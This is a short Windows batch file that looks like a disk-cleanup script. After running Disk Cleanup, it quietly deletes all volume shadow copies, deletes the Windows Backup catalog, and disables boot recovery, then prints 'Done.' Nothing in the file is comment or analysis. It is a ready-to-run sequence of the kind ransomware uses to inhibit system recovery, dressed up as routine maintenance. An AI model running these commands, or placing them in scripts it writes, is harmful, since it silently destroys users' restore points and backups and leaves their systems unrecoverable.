@echo off
cleanmgr /sagerun:1
vssadmin delete shadows /all /quiet
wbadmin delete catalog -quiet
bcdedit /set {default} recoveryenabled No
echo Done.
